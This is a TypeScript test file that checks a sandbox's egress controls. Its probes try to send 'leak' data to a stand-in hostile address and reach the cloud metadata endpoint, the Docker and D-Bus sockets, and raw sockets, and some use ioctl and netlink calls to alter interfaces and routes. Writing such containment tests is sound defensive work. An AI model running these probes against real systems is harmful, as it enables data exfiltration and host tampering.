// Ways out below HTTP: addresses, ports and protocols.
import { get, https, type Outcome, perl, runProbes, tcp, tls, udp, way } from "./lib.ts";

const ALLOWED = "api.example.com";
const API_ADDRESS = "203.0.113.10";
const EVIL = "198.51.100.7";
const EVIL6 = "2001:db8:66::7";
const HOST_SERVICE_PORT = 8080;
const leak = Buffer.from("leak-by-datagram");

const path = (name: string) => `/v1/${way}/${name}`;

function connects(host: string, port: number): Promise<Outcome> {
  return tcp({ host, port }, "leak-by-tcp\r\n");
}

await runProbes({
  allowed: () => https(ALLOWED, path("allowed")),
  "allowed-by-address": () =>
    tls({ dial: API_ADDRESS, sni: ALLOWED }, get(path("allowed-by-address"), ALLOWED)),
  "allowed-by-any-address": () => tls({ dial: EVIL, sni: ALLOWED }, get(path("allowed-by-any"), ALLOWED)),
  "other-host": () =>
    tls({ dial: EVIL, sni: "evil.example.net" }, get(path("other-host"), "evil.example.net")),
  "other-host-v6": () =>
    tls({ dial: EVIL6, sni: "evil.example.net" }, get(path("other-host-v6"), "evil.example.net")),
  "other-host-plain": () => tcp({ host: EVIL, port: 80 }, get(path("other-host-plain"), "evil.example.net")),
  metadata: () => tcp({ host: "169.254.169.254", port: 80 }, get(path("metadata"), "169.254.169.254")),
  "port-22": () => connects(EVIL, 22),
  "port-25": () => connects(EVIL, 25),
  "port-853": () => connects(EVIL, 853),
  "port-3128": () => connects(EVIL, 3128),
  "port-8443": () => connects(API_ADDRESS, 8443),
  "port-8443-v6": () => connects(EVIL6, 8443),
  "host-loopback": () => connects("127.0.0.1", HOST_SERVICE_PORT),
  "host-loopback-v6": () => connects("::1", HOST_SERVICE_PORT),
  "host-any": () => connects("0.0.0.0", HOST_SERVICE_PORT),
  "host-address": () => connects("192.0.2.2", HOST_SERVICE_PORT),
  "host-gateway": () => connects("192.0.2.1", HOST_SERVICE_PORT),
  "host-abstract": () => tcp({ path: "\0bot-bottle-host-service" }, "leak\n"),
  "host-dbus": () => tcp({ path: "/run/dbus/system_bus_socket" }, "leak\n"),
  "host-docker": () => tcp({ path: "/var/run/docker.sock" }, "leak\n"),
  "udp-443": () => udp(EVIL, 443, leak),
  "udp-443-v6": () => udp(EVIL6, 443, leak),
  "udp-123": () => udp(EVIL, 123, leak),
  mdns: () => udp("224.0.0.251", 5353, leak),
  "tls-bytes-on-80": () => tls({ dial: EVIL, port: 80, sni: ALLOWED }, get(path("tls-on-80"), ALLOWED)),
  "plain-on-443": () => tcp({ host: API_ADDRESS, port: 443 }, get(path("plain-on-443"), ALLOWED)),
  "not-http": () => tls({ dial: ALLOWED, sni: ALLOWED }, "SSH-2.0-leak\r\n\r\n"),
  "raw-socket": () => perl("socket(my $s, AF_INET, SOCK_RAW, 255)"),
  "raw-icmp": () => perl("socket(my $s, AF_INET, SOCK_RAW, 1)"),
  "raw-socket-v6": () => perl("socket(my $s, AF_INET6, SOCK_RAW, 58)"),
  "packet-socket": () => perl("socket(my $s, 17, SOCK_RAW, 0x0300)"),
  "packet-dgram": () => perl("socket(my $s, 17, SOCK_DGRAM, 0x0300)"),
  vsock: () => perl("socket(my $s, 40, SOCK_STREAM, 0)"),
  "add-address": () =>
    perl(
      // SIOCSIFADDR on lo: struct ifreq with sockaddr_in 10.1.1.1
      "ioctl($s, 0x8916, $r)",
      'socket(our $s, AF_INET, SOCK_DGRAM, 0); our $r = pack("a16 S n C4 x16", "lo:1", 2, 0, 10, 1, 1, 1)',
    ),
  "interface-down": () =>
    perl(
      // SIOCSIFFLAGS: lo without IFF_UP
      "ioctl($s, 0x8914, $r)",
      'socket(our $s, AF_INET, SOCK_DGRAM, 0); our $r = pack("a16 S x22", "lo", 0)',
    ),
  "delete-route": () =>
    perl(
      // RTM_DELROUTE (25) of the local default route in the local table, sent and acknowledged over netlink
      'do { send($s, $m, 0); recv($s, my $a, 512, 0); my $e = -unpack("x16 l", $a); $! = $e; $e == 0 }',
      'socket(our $s, 16, SOCK_RAW, 0); our $m = pack("L S S L L C C C C C C C C L S S L", 36, 25, 5, 1, 0, 2, 0, 0, 0, 255, 0, 254, 2, 0, 8, 4, 1)',
    ),
});
